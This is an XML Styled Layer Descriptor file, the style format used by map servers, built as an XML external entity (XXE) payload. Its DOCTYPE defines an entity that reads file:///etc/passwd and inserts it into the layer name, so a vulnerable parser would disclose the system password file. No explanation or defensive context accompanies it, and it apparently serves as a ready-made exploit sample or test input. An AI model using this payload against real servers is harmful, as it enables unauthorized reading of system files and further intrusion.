<?xml version="1.0"?>
<!DOCTYPE sld [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc">
  <NamedLayer><Name>&secret;</Name><UserStyle><FeatureTypeStyle><Rule>
    <PointSymbolizer><Graphic><Mark><WellKnownName>circle</WellKnownName></Mark></Graphic></PointSymbolizer>
  </Rule></FeatureTypeStyle></UserStyle></NamedLayer>
</StyledLayerDescriptor>
